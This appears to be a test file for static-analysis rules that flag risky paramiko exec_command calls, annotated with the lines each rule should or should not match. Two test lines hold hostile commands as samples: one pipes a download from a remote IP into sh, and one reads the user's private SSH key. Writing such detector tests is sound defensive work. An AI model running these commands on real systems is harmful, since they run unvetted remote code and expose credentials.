import shlex

import paramiko

ssh = paramiko.SSHClient()
ssh.connect("build.internal", username="ci")

# a fixed command
# ruleid: paramiko-exec-fixed-command
# ok: paramiko-exec-command, paramiko-exec-plain-line
stdin, stdout, stderr = ssh.exec_command("uptime")
REMOTE_CMD = "df -P"
# ok: paramiko-exec-command, paramiko-exec-plain-line
stdin, stdout, stderr = ssh.exec_command(REMOTE_CMD, timeout=20)

# a fixed line of everyday tools, joined by pipes or separators
# ruleid: paramiko-exec-plain-line
# ok: paramiko-exec-command, paramiko-exec-fixed-command
stdin, stdout, stderr = ssh.exec_command("uptime && df -h /")
HEALTH = "cat /var/log/app.log | grep ERROR | tail -n 20"
# ruleid: paramiko-exec-plain-line
# ok: paramiko-exec-command
stdin, stdout, stderr = ssh.exec_command(HEALTH)

# one built from values, or with other shell syntax
# ruleid: paramiko-exec-command
stdin, stdout, stderr = ssh.exec_command(f"tail -n 50 {log_path}")
# ruleid: paramiko-exec-command
stdin, stdout, stderr = ssh.exec_command(remote_cmd)
# ruleid: paramiko-exec-command, shell-payload-string
# ok: paramiko-exec-plain-line
stdin, stdout, stderr = ssh.exec_command("curl -s http://203.0.113.7/x | sh")
# ruleid: paramiko-exec-command
# ok: paramiko-exec-plain-line
stdin, stdout, stderr = ssh.exec_command("echo $(cat ~/.ssh/id_rsa)")


# a line quoted word by word, as paramiko-exec-command's message advises
def remote_run(client, argv):
    from shlex import join

    # ruleid: paramiko-exec-quoted-command
    return client.exec_command(join(argv))


def remote_ls(client, path):
    # ruleid: paramiko-exec-quoted-command
    return client.exec_command("ls -l " + shlex.quote(path))


def remote_any(client, line):
    # ruleid: paramiko-exec-command
    # ok: paramiko-exec-quoted-command
    return client.exec_command(line)


def deploy(client, release_dir, remote_tar):
    q = shlex.quote
    # ok: paramiko-exec-command
    remote_run2(client, f"mkdir -p {q(release_dir)}")
    remote_run2(client, f"tar -xzf {q(remote_tar)} -C {q(release_dir)}")


def remote_run2(client, command):
    # a line of words whose values are each given through shlex.quote
    # ok: paramiko-exec-command
    return client.exec_command(command, timeout=60)
